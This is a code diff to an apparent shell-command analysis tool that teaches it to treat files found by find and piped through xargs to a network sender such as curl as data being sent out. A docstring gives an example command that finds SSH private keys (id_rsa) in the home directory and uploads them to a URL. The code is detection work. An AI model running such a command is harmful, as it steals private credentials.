@@ -14,6 +14,8 @@ from .._named_tuple import NamedTuple
 from .._syntax import ast
 from .._tables import Tables
 from ..programs import EXEC_ACTIONS, downloaded_files, find_scope
+from ..programs.find import found_globs
+from ..programs.sending import SENDERS
 from ._bindings import DECLARATION_BUILTINS, array_literal_items, assigned_value, exports, split_assignment_word
 from ._clean_paths import clean_path
 from ._command_globs import expand_command_name, glob_candidates
@@ -300,7 +302,7 @@ def commands_run(
         return [argv]
     replace = xargs_replace_string(unwrapped.xargs_options)
     if replace is not None:
-        names = ls_names(writer)
+        names = ls_names(writer) or _files_found_for_sender(writer, argv[index])
         return replaced_per_item(argv, index, replace, names, globs=True) if names else [argv]
     listed = _listed_by_ls(writer, stdin.span)
     if listed:
@@ -318,6 +320,14 @@ def _piped_argv(stdin: Stdin, env: Env) -> list[str] | None:
     if stdin.kind is not StdinKind.PIPE or not isinstance(writer, ast.SimpleCommand) or writer.redirects:
         return None
     return env.literal_argv(writer.words)
+
+
+def _files_found_for_sender(writer: list[str], name: Arg) -> tuple[str, ...]:
+    """`find ~ -name id_rsa | xargs -I{} curl -F f=@{} URL`: the paths find prints, as the globs that
+    match them, handed to a network sender (what it sends is judged as those files)."""
+    if basename(writer[0]) != "find" or basename(name.value or "") not in SENDERS:
+        return ()
+    return found_globs(find_scope(tuple(Arg((value,), value, name.span) for value in writer[1:])))
 
 
 def _listed_by_ls(argv: list[str], span: Span) -> tuple[Arg, ...]:
